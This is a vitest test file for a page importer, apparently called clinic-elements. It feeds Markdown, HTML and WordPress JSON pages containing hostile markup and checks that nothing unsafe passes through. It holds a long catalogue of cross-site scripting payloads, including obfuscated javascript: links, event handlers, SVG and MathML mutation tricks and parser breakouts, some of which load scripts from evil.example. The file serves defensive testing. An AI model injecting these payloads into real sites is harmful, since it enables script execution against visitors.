import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { isFetchUrl, isLinkUrl } from '../../../src/document/is-url.ts';
import type { Service } from '../../../src/service/schema.ts';
import { runCli } from '../run-cli.ts';

const TAB = '\t';

/** One of each kind of way in which markup runs, loads or sends; every one names `harm`. */
const PAYLOADS: Record<string, string> = {
  script: '<script>harm()</script>',
  'script in other cases, with a slash': '<ScRiPt/src=//evil.example/harm.js></sCrIpT >',
  'module script': '<script type="module">import "https://evil.example/harm.js"</script>',
  'event handler of a picture': '<img src=x onerror=harm()>',
  'event handler without spaces': '<img/src="x"/onerror="harm()">',
  'event handler in other cases': '<p OnMouseOver="harm()">words</p>',
  'event handler that runs by itself': '<details open ontoggle=harm()><summary>More</summary>Words</details>',
  'event handler on a made-up element': '<x-thing onfocus=harm() autofocus tabindex=1>words</x-thing>',
  'event handler on marquee': '<marquee onstart=harm()>words</marquee>',
  'javascript link': '<a href="javascript:harm()">words</a>',
  'javascript link in other cases': '<a href="JaVaScRiPt:harm()">words</a>',
  'javascript link with a tab': `<a href="java${TAB}script:harm()">words</a>`,
  'javascript link with a newline': '<a href="java\nscript:harm()">words</a>',
  'javascript link by entities': '<a href="&#106;avascript&colon;harm()">words</a>',
  'javascript link by entities without semicolons': '<a href="&#x6A&#x61vascript:harm()">words</a>',
  'javascript link after control characters': '<a href=" &#1;javascript:harm()">words</a>',
  'javascript link with an entity newline': '<a href="javascript&NewLine;:harm()">words</a>',
  'javascript link behind a view': '<a href="view-source:javascript:harm()">words</a>',
  'vbscript link': '<a href="vbscript:harm()">words</a>',
  'data link': '<a href="data:text/html,<script>harm()</script>">words</a>',
  'blob link': '<a href="blob:https://evil.example/harm">words</a>',
  'file link': '<a href="file:///harm">words</a>',
  'data picture': '<img width=1 height=1 alt=a src="data:image/svg+xml,<svg onload=harm()>">',
  'javascript picture': '<img width=1 height=1 alt=a src="javascript:harm()">',
  'markup in a picture’s words': '<img width=1 height=1 src=a.png alt="<script>harm()</script>">',
  'image map': '<map name=m><area href="javascript:harm()" alt=a shape=rect></map>',
  'SVG with a handler': '<svg onload=harm()><circle r=1 /></svg>',
  'SVG with a script': '<svg><script>harm()</script></svg>',
  'SVG with a link': '<svg><a xlink:href="javascript:harm()"><text y=9>words</text></a></svg>',
  'SVG that animates a link':
    '<svg><a><animate attributeName=href values=javascript:harm() /><text>words</text></a></svg>',
  'SVG with foreign markup':
    '<svg><foreignObject><iframe srcdoc="<script>harm()</script>"></iframe></foreignObject></svg>',
  'formula with a link': '<math><mtext xlink:href="javascript:harm()">words</mtext></math>',
  'style with an expression': '<p style="width: exp/**/ression(harm())">words</p>',
  'style with a javascript address': '<p style="background: url(javascript:harm())">words</p>',
  'style sheet': '<style>@import "https://evil.example/harm.css"; p { background: url(harm) }</style>',
  'linked style sheet': '<link rel=stylesheet href="https://evil.example/harm.css">',
  'imported page': '<link rel=import href="data:text/html,<script>harm()</script>">',
  iframe: '<iframe src="javascript:harm()"></iframe>',
  'iframe with a page in it': '<iframe srcdoc="&lt;script&gt;harm()&lt;/script&gt;"></iframe>',
  object: '<object data="javascript:harm()"><embed src="javascript:harm()"></object>',
  applet: '<applet code=harm archive="https://evil.example/harm.jar"></applet>',
  'form with an action': '<form action="javascript:harm()"><button>Send</button></form>',
  'button with an action': '<button formaction="javascript:harm()">Send</button>',
  'input with a picture': '<input type=image src=x onerror=harm()>',
  'meta that leads away': '<meta http-equiv=refresh content="0;url=javascript:harm()">',
  'meta that leads away by data':
    '<meta http-equiv="refresh" content="0;url=data:text/html,<script>harm()</script>">',
  'base address': '<base href="javascript:harm()//">',
  template: '<template><script>harm()</script></template>',
  'shadow root': '<div><template shadowrootmode=open><img src=x onerror=harm()></template></div>',
  noscript: '<noscript><p title="</noscript><img src=x onerror=harm()>">words</p></noscript>',
  'noscript in a title': '<noscript><style></noscript><img src=x onerror=harm()></style></noscript>',
  comment: '<!-- <script>harm()</script> -->',
  'comment that ends early': '<!--><img src=x onerror=harm()>-->',
  'comment that ends with a bang': '<!-- --!><img src=x onerror=harm()> -->',
  'conditional comment': '<!--[if IE]><script>harm()</script><![endif]-->',
  'character data': '<![CDATA[<img src=x onerror=harm()>]]>',
  'processing instruction': '<?xml-stylesheet href="javascript:harm()"?>',
  'raw text': '<xmp><img src=x onerror=harm()></xmp>',
  'text area that ends early': '<textarea></textarea><img src=x onerror=harm()></textarea>',
  'mutation by a formula':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=harm()&gt;">',
  'mutation by a drawing': '<svg></p><style><a id="</style><img src=1 onerror=harm()>">',
  'mutation by a form':
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=harm() src>">',
  'tag that is not closed': '<img src=x onerror=harm() ',
  'tag written out as text': '&lt;script&gt;harm()&lt;/script&gt; and &lt;img src=x onerror=harm()&gt;',
  'tag written out in two halves': '&lt;<!-- -->script&gt;harm()&lt;/script&gt;',
  'tag that cleaning would make': '&lt;scr&lt;b&gt;ipt&gt;harm()&lt;/scr&lt;b&gt;ipt&gt;',
  'handlers in a heading':
    '<h2 onclick=harm()>Care <img src=x onerror=harm()><script>harm()</script></h2><p>Words.</p>',
  'handlers in a table':
    '<table background="javascript:harm()"><tr><th>A<td>B<tr><td><a href="javascript:harm()">x</a><td onclick=harm()>y</table>',
  'handlers in a list':
    '<ul><li onclick=harm()><b>Term<script>harm()</script>:</b> <a href="javascript:harm()">text</a></ul>',
  'quote of a javascript address': '<blockquote cite="javascript:harm()">words</blockquote>',
  'video with a handler': '<video poster=javascript:harm()><source onerror=harm()></video>',
  'an isindex': '<isindex type=image src=1 onerror=harm()>',
  'link that loads when it is pressed':
    '<a href="https://clinic.example/" ping="javascript:harm()" onclick="harm()">words</a>',
};

/** What is harmless once it has been parsed, so that nothing need be told. */
const PARSED_AWAY: Record<string, string> = {
  'link with markup in it': '<a href="https://evil.example/&quot;><script>harm()</script>">words</a>',
  'attribute that a backtick ends': '<img src="`><script>harm()</script>" width=1 height=1 alt=a>',
  frames: '<frameset onload=harm()><frame src="javascript:harm()"></frameset>',
  'script within a script': '<scr<script>harm()</script>ipt>harm()</script>',
};

const SAFE_START = 'The neck carries the head all day, and it says so when it has had enough.';
const SAFE_END = 'Rest helps, and so does warmth.';

/** A page of each format with the payload where an article's text is. */
const FORMATS: Record<string, (payload: string) => string> = {
  'page.md': (payload) =>
    `# Neck Care\n\n${SAFE_START}\n\n## What Helps\n\n${SAFE_END}\n\n## What Does Not\n\n${payload}\n\nWords after it.\n`,
  'page.html': (payload) =>
    `<!doctype html><html lang="en"><head><title>Neck Care</title></head><body><article><h1>Neck Care</h1>
     <p>${SAFE_START}</p><h2>What Helps</h2><p>${SAFE_END}</p><h2>What Does Not</h2><div>${payload}</div><p>Words after it.</p></article></body></html>`,
  'page.json': (payload) =>
    JSON.stringify([
      {
        slug: 'neck-care',
        link: 'https://clinic.example/neck-care/',
        title: { rendered: `Neck Care ${payload}` },
        excerpt: { rendered: `<p>In short. ${payload}</p>` },
        content: {
          rendered: `<p>${SAFE_START}</p><h2>What Helps</h2><p>${SAFE_END}</p><h2>What Does Not</h2>${payload}<p>Words after it.</p>`,
        },
      },
    ]),
};

/** Every string in a value, with the name of the property that holds it. */
function stringsIn(value: unknown, name = ''): [string, string][] {
  if (typeof value === 'string') return [[name, value]];
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, inner]) => stringsIn(inner, Array.isArray(value) ? name : key));
}

async function importHostile(name: string, payload: string) {
  const folder = mkdtempSync(join(tmpdir(), 'hostile-'));
  const [source, out] = [join(folder, name), join(folder, 'service.json')];
  writeFileSync(source, FORMATS[name]?.(payload) ?? '');
  const { code, stdout, stderr } = await runCli(['import', source, '--slug', 'neck-care']);
  writeFileSync(out, stdout);
  return { code, stdout, stderr, checked: (await runCli(['check', out])).code };
}

describe.each(Object.keys(FORMATS))('clinic-elements import of a hostile %s', (name) => {
  it.each(Object.entries(PAYLOADS))(
    'lets nothing of this through, and tells it: %s',
    async (_kind, payload) => {
      const result = await importHostile(name, payload);
      expectHarmless(result);
      expect(result.stderr).toMatch(/left out/);
    },
  );

  it.each(Object.entries(PARSED_AWAY))('makes this harmless: %s', async (_kind, payload) => {
    expectHarmless(await importHostile(name, payload));
  });
});

function expectHarmless({ code, stdout, stderr, checked }: Awaited<ReturnType<typeof importHostile>>): void {
  expect({ code, checked }, stderr).toEqual({ code: 0, checked: 0 });
  expect(stdout).not.toContain('<');
  for (const [property, text] of stringsIn(JSON.parse(stdout))) {
    expect(text).not.toMatch(/<[a-z/!?]/iu);
    if (property === 'href') expect(text).toSatisfy(isLinkUrl);
    if (['src', 'url', 'canonicalUrl'].includes(property)) expect(text).toSatisfy(isFetchUrl);
    if (['href', 'src', 'url'].includes(property))
      expect(text).not.toMatch(/^\s*(javascript|data|vbscript)/iu);
  }
  // What stood before the payload is still there.
  const service = JSON.parse(stdout) as Service;
  expect(service.sections[1]).toMatchObject({ heading: 'What Helps', blocks: [{ text: SAFE_END }] });
}

describe('clinic-elements import of hostile addresses', () => {
  it.each([
    '[words](javascript:harm())',
    '[words](JAVASCRIPT:harm())',
    '[words](&#x6A;avascript:harm())',
    '[words](data:text/html;base64,PHNjcmlwdD4=)',
    '[words][1]\n\n[1]: vbscript:harm()',
    '<javascript:harm()>',
    '![words](javascript:harm())',
  ])('tells of Markdown’s %s and keeps no address of it', async (payload) => {
    const { stdout, stderr, checked } = await importHostile('page.md', payload);
    expect(checked).toBe(0);
    expect(stringsIn(JSON.parse(stdout)).filter(([property]) => property === 'href')).toEqual([]);
    expect(stderr).toMatch(/left out, (unsafe link|image without a safe address)/);
  });

  it.each(['javascript:harm()', 'data:text/html,harm', ' java\nscript:harm()'])(
    'takes %j for no page’s own address, from WordPress or a saved page',
    async (address) => {
      const wordpress = JSON.parse(FORMATS['page.json']?.('') ?? '') as Record<string, unknown>[];
      const page = JSON.stringify([{ ...wordpress[0], link: address }]);
      const saved = FORMATS['page.html']?.('').replace(
        '<title>',
        `<link rel="canonical" href="${address}"><title>`,
      );
      for (const [name, content] of [
        ['page.json', page],
        ['page.html', saved ?? ''],
      ] as const) {
        const path = join(mkdtempSync(join(tmpdir(), 'hostile-')), name);
        writeFileSync(path, content);
        const { stdout, stderr } = await runCli(['import', path]);
        expect(JSON.parse(stdout)).not.toHaveProperty('canonicalUrl');
        expect(stderr).toContain('unsafe address of the page');
      }
    },
  );

  it('refuses bytes of null in a file, and takes them out of what WordPress answers', async () => {
    const payload = '<p>A\u0000 word</p><scr\u0000ipt>harm()</scr\u0000ipt><img src=x on\u0000error=harm()>';
    expect((await importHostile('page.html', payload)).stderr).toContain('is not a text file');
    expectHarmless(await importHostile('page.json', payload));
  });

  it('does not let a page steer the terminal that it is reported on', async () => {
    const { stderr } = await importHostile('page.html', '<a href="javascript:&#27;[2J">\u001b[31mwords</a>');
    expect(stderr).not.toContain('\u001b');
  });
});
